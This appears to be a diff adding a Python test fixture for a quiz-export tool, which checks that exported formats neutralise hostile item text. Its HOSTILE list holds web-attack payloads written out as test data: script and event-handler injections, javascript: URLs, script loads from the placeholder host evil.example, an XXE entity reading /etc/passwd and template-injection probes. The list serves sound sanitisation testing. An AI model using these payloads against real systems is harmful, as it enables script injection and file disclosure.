@@ -1,0 +1,184 @@
+"""Quizzes for the tests of the exports: a plain one, and one whose texts attack every format."""
+
+from __future__ import annotations
+
+from functools import cache
+from html.parser import HTMLParser
+
+from unionstate.quiz.export.texts import cleaned
+from unionstate.quiz.items import Item, Quiz
+from unionstate.quiz.render import inline_html
+
+# every payload that runs sets window.hacked
+HOSTILE = [
+    # HTML that runs
+    "<script>window.hacked=1</script>",
+    "</script><script>window.hacked=1</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=window.hacked=1>",
+    '"><img src=x onerror="window.hacked=1">',
+    "<svg onload=window.hacked=1>",
+    "<svg><script>window.hacked=1</script></svg>",
+    "<body onload=window.hacked=1>",
+    "<iframe src='javascript:parent.hacked=1'></iframe>",
+    "<a href='javascript:window.hacked=1'>x</a>",
+    "[x](javascript:window.hacked=1)",
+    "![x](javascript:window.hacked=1)",
+    "![x](/etc/passwd)",
+    "<https://evil.example>",
+    "<details open ontoggle=window.hacked=1>",
+    "<input autofocus onfocus=window.hacked=1>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.hacked=1'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
+    "' onclick='window.hacked=1",
+    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
+    "&#60;img src=x onerror=window.hacked=1&#62;",
+    "{{constructor.constructor('window.hacked=1')()}}",
+    "{% include '/etc/passwd' %}{{ 7*7 }}${7*7}#{7*7}",
+    # broken HTML and XML
+    "<b>never closed",
+    "</p></li></ol></body></html>",
+    "<!-- never closed",
+    "--><!-- -->",
+    "]]>",
+    "<![CDATA[<b>x</b>]]>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "&nbsp;&amp;&amp;amp;&unknown;&",
+    "a < b > c & d \" e ' f",
+    "<",
+    # GIFT
+    "~ = # { } :",
+    "~wrong =right #feedback ####general",
+    "%50%half",
+    "%-100%none",
+    "[html]<b>x</b>",
+    "[markdown]x",
+    "::name::text{=a ~b}",
+    "// a comment",
+    "$CATEGORY: elsewhere",
+    "{",
+    "}",
+    "a -> b",
+    "&&058;&&035;&&061;&&123;&&125;&&126;&&010;&&092;",
+    "first\n\nsecond\n// third\n0\nfourth",
+    "TRUE",
+    # backslashes and Markdown
+    "back\\slash",
+    "ends in a backslash\\",
+    "two\\\\",
+    "\\n is no line end",
+    "\\~\\=\\#\\{\\}\\:",
+    "*emphasis* **strong** `code <b>` _under_ ~~struck~~",
+    "***",
+    "`never closed",
+    "# heading",
+    "    indented",
+    "```python\nimport os\n```",
+    # text2qti
+    "% a comment",
+    "COMMENT",
+    "END_COMMENT\nGROUP\npick: 1\nEND_GROUP",
+    "*a) right\nb) wrong",
+    "[*] right\n[ ] wrong",
+    "____",
+    "1. next question\n... feedback\n! solution",
+    "unionstate00000000000000000000000000000000",
+    # formulas, sounds and addresses of the receiving programs
+    "$$\\href{javascript:window.hacked=1}{x}$$",
+    "\\(x\\) \\[y\\] $z$ $$$$",
+    "[latex]\\input{/etc/passwd}[/latex] [$]x[/$] [sound:x.mp3] [[type:x]]",
+    "{{c1::cloze}} {{FrontSide}}",
+    "@@PLUGINFILE@@/x $IMS-CC-FILEBASE$/x",
+    # characters
+    "\u202eright to left\u202c \u2066isolated\u2069 \u200f\u200e",
+    "שלום עולם مرحبا",
+    "Беларусь і Расія: 1 234,5 «так»",
+    "NUL \x00 bell \x07 escape \x1b[31m unit \x1f form \x0c",
+    "not a character \ufffe \uffff",
+    "next line \x85 separators \u2028 \u2029 end",
+    "carriage\rreturn\r\nand line",
+    "tab\tand  two   spaces",
+    "  leading and trailing  ",
+    "\u00a0no-break space\u00a0",
+    "zero\u200bwidth\u200d joiner \ufeff mark",
+    "emoji 👩‍👩‍👧 🏳️‍🌈 \U0001f4a9 é é",
+    "Z̸̧̢͎a̶l̷g̴o",
+    # size
+    "<b onclick='window.hacked=1'>" + "0123456789&<>\"'" * 66_666,
+    "long" * 5_000,
+]
+
+
+def texts_of(number: int, text: str) -> list[dict]:
+    """A single, a multiple and a commit item with this text in every place, first, middle and last."""
+    common = {"objective": "LO1", "source": ["3.2", "C01"], "prompt": text, "hints": [text, "Second hint"]}
+    plain = {"text": f"plain option {number}", "feedback": "plain feedback"}
+    other = {"text": f"another option {number}", "feedback": text}
+    hostile = {"text": text, "feedback": text}
+    return [
+        {**common, "id": f"s{number}", "type": "single", "part": "section",
+         "options": [{**hostile, "correct": True}, plain, other]},
+        {**common, "id": f"m{number}", "type": "multiple", "part": "closing", "difficulty": 3,
+         "options": [{**plain, "correct": True}, hostile, {**other, "correct": True}]},
+        {**common, "id": f"c{number}", "type": "commit", "part": "before", "options": [plain, other, hostile]},
+    ]  # fmt: skip
+
+
+def quiz_of(*texts: str) -> Quiz:
+    """A quiz with three items for each text."""
+    return Quiz.model_validate({"items": [item for place, text in enumerate(texts) for item in texts_of(place, text)]})
+
+
+PLAIN = quiz_of("Which *one*?")
+ATTACK = quiz_of(*HOSTILE)
+
+
+class _Seen(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.text: list[str] = []
+        self.tags: set[str] = set()
+        self.others: list[object] = []
+
+    def handle_starttag(self, tag: str, attrs: list) -> None:
+        self.tags.add(tag)
+        self.others += attrs
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        self.others.append(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+HARMLESS = {"p", "ul", "ol", "li", "em", "strong", "code", "i", "b", "br", "span"}
+
+
+def shown(html: str) -> str:
+    """The text a reader sees; fails if the HTML has anything but harmless tags without attributes."""
+    seen = _Seen()
+    seen.feed(html)
+    seen.close()
+    assert seen.tags <= HARMLESS and not seen.others, html[:200]
+    return "".join(seen.text).strip(" \t\n\r\0\x0b")
+
+
+def expected(item: Item) -> dict:
+    """What every format has to carry of an item: the texts as the book shows them."""
+    item, _ = cleaned(item)
+    return {
+        "id": item.id,
+        "prompt": seen(item.prompt),
+        "options": [seen(option.text) for option in item.options],
+        "feedback": [seen(option.feedback) for option in item.options],
+        "hints": [seen(hint) for hint in item.hints],
+    }
+
+
+@cache
+def seen(text: str) -> str:
+    """A text of an item as the book shows it."""
+    return shown(str(inline_html(text)))
